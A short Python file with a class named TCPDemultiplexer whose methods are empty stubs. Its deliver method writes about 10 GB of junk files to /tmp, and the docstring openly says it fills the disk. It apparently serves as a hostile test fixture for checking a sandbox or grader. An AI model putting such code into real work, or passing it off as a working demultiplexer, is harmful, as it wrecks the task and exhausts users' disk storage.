"""Writes until the disk is full."""


class TCPDemultiplexer:
    def __init__(self):
        pass

    def listen(self, name, address, port):
        pass

    def connect(self, name, source_address, source_port, destination_address, destination_port):
        pass

    def close(self, name):
        pass

    def deliver(self, packet):
        for number in range(10_000):
            with open(f"/tmp/{number}", "wb") as file:
                file.write(bytes(1 << 20))
        return None
